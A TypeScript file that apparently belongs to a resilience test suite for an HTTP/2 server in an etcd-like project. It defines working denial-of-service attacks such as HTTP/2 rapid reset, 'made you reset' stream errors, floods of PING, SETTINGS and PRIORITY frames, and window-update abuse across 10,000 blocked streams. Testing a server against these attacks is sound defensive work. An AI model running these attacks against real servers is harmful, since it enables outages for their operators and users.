import { Flag, FrameType, Setting, windowBytesMax } from '../../../src/server/transport/http2/protocol.ts';
import { KV } from '../../../src/wire/generated/etcdserverpb/kv.ts';
import type { Attack } from './attacker.ts';
import {
  callHeaders,
  dataFrame,
  frame,
  frameBytesMax,
  headerFrames,
  pingFrame,
  repeated,
  resetFrame,
  type SettingValue,
  settingsFrame,
  windowUpdate,
} from './frames.ts';
import { flood, keepConnected } from './keep-connected.ts';
import { getRequest, listRequest, type Request } from './requests.ts';
import type { Wire } from './wire.ts';

const noWindow: readonly SettingValue[] = [[Setting.initialWindowSize, 0]];
/** Frames that are sent together. */
const batchFrames = 200;
/** The number of streams whose replies wait for a window. */
const blockedStreams = 10_000;
const settingsInFrameMax = Math.floor(frameBytesMax / 6);

/**
 * Opens streams without end. Each begins with a request and ends with the bytes that `spoil`
 * returns.
 */
async function spoilStreams(wire: Wire, request: Request, spoil: (streamId: number) => Buffer): Promise<void> {
  const next = () => {
    const streamId = wire.nextStreamId();
    return [request(streamId), spoil(streamId)];
  };
  while (await wire.send(...Array.from({ length: batchFrames }, next).flat()));
}

function spoiling(name: string, does: string, request: Request, spoil: (streamId: number) => Buffer): Attack {
  return { name, does, run: (attacker) => keepConnected(attacker, (wire) => spoilStreams(wire, request, spoil)) };
}

async function openBlocked(wire: Wire): Promise<readonly number[]> {
  const streamIds: number[] = [];
  while (streamIds.length < blockedStreams) {
    const batch = Array.from({ length: batchFrames }, () => wire.nextStreamId());
    if (!(await wire.send(...batch.map(getRequest)))) return streamIds;
    streamIds.push(...batch);
  }
  return streamIds;
}

/** Frames that make a server work for each stream whose reply waits. */
function amongBlocked(name: string, does: string, bytes: (streamIds: readonly number[]) => Buffer): Attack {
  return {
    name,
    does,
    run: (attacker) =>
      keepConnected(
        attacker,
        async (wire) => {
          const chunk = bytes(await openBlocked(wire));
          while (await wire.send(chunk));
        },
        { count: 1, settings: noWindow },
      ),
  };
}

const priorityFrame = frame(FrameType.priority, 0, 1, Buffer.of(0, 0, 0, 3, 16));
const putHeaders = callHeaders(KV.methods.put.path);

/** Sends frames of one request that never ends. */
function withinRequest(name: string, does: string, bytes: (streamId: number) => Buffer): Attack {
  return {
    name,
    does,
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        const chunk = repeated(bytes(await wire.start(putHeaders)), batchFrames * 10);
        while (await wire.send(chunk));
      }),
  };
}

const floods: readonly Attack[] = [
  {
    name: 'pings',
    does: 'sends PING without end',
    run: (attacker) => flood(attacker, repeated(pingFrame, 4_000)),
  },
  {
    name: 'pings, answers unread',
    does: 'sends PING without end and does not read the answers',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        wire.stopReading();
        while (await wire.send(repeated(pingFrame, 4_000)));
      }),
  },
  {
    name: 'settings on many connections',
    does: 'sends empty SETTINGS without end on 300 connections',
    run: (attacker) => flood(attacker, repeated(settingsFrame([]), 4_000), { count: 300 }),
  },
  {
    name: 'settings',
    does: 'sends empty SETTINGS without end',
    run: (attacker) => flood(attacker, repeated(settingsFrame([]), 4_000)),
  },
  {
    name: 'settings, answers unread',
    does: 'sends empty SETTINGS without end and does not read the answers',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        wire.stopReading();
        while (await wire.send(repeated(settingsFrame([]), 4_000)));
      }),
  },
  {
    name: 'priorities',
    does: 'sends PRIORITY without end',
    run: (attacker) => flood(attacker, repeated(priorityFrame, 4_000)),
  },
  {
    name: 'unknown frames',
    does: 'sends frames of an unknown type without end',
    run: (attacker) => flood(attacker, repeated(frame(0xbe, 0, 0, Buffer.alloc(8)), 4_000)),
  },
  {
    name: 'window updates of the connection',
    does: 'sends WINDOW_UPDATE of the connection without end',
    run: (attacker) => flood(attacker, repeated(windowUpdate(0, 1), 4_000)),
  },
  {
    name: 'resets of nothing',
    does: 'resets a stream that has ended, without end',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        const streamId = wire.nextStreamId();
        await wire.send(getRequest(streamId), resetFrame(streamId));
        while (await wire.send(repeated(resetFrame(streamId), 4_000)));
      }),
  },
  withinRequest('empty DATA', 'sends empty DATA on an open stream without end', (streamId) =>
    dataFrame(streamId, Buffer.alloc(0), { endsStream: false }),
  ),
  {
    name: 'padded DATA',
    does: 'sends DATA frames of padding only, without end',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        const streamId = await wire.start(putHeaders);
        const padded = frame(FrameType.data, Flag.padded, streamId, Buffer.alloc(256, 255).fill(0, 1));
        while (await wire.send(padded));
      }),
  },
];

export const frameAttacks: readonly Attack[] = [
  spoiling('rapid reset', 'opens streams and resets them', getRequest, resetFrame),
  spoiling('list and reset', 'requests a megabyte and resets the stream', listRequest, resetFrame),
  spoiling(
    'made you reset: window of 0',
    'makes the server reset streams with a WINDOW_UPDATE of 0',
    listRequest,
    (streamId) => windowUpdate(streamId, 0),
  ),
  spoiling(
    'made you reset: window too large',
    'makes the server reset streams with a window above 2^31',
    listRequest,
    (streamId) => windowUpdate(streamId, windowBytesMax),
  ),
  spoiling(
    'made you reset: DATA after the end',
    'makes the server reset streams with DATA after the end of a request',
    listRequest,
    (streamId) => dataFrame(streamId, Buffer.of(0), { endsStream: true }),
  ),
  spoiling(
    'made you reset: HEADERS after the end',
    'makes the server reset streams with HEADERS after the end of a request',
    listRequest,
    (streamId) => headerFrames(streamId, putHeaders, { endsStream: true }),
  ),
  spoiling(
    'made you reset: PRIORITY',
    'makes the server reset streams with a PRIORITY of the wrong length',
    listRequest,
    (streamId) => frame(FrameType.priority, 0, streamId, Buffer.alloc(4)),
  ),
  amongBlocked(
    'window updates among blocked streams',
    'sends WINDOW_UPDATE while 10,000 replies wait for a window',
    () => repeated(windowUpdate(0, 1), 4_000),
  ),
  amongBlocked(
    'window updates of blocked streams',
    'gives each of 10,000 streams one byte of window, in turn',
    (streamIds) => Buffer.concat(streamIds.map((streamId) => windowUpdate(streamId, 1))),
  ),
  amongBlocked('settings among blocked streams', 'sends SETTINGS while 10,000 replies wait for a window', () =>
    repeated(settingsFrame(noWindow), 1_000),
  ),
  amongBlocked(
    '2,730 settings in a frame',
    'sends 2,730 settings in each frame while 10,000 replies wait for a window',
    () =>
      settingsFrame(Array.from({ length: settingsInFrameMax }, (_, index) => [Setting.initialWindowSize, index % 2])),
  ),
  ...floods,
];
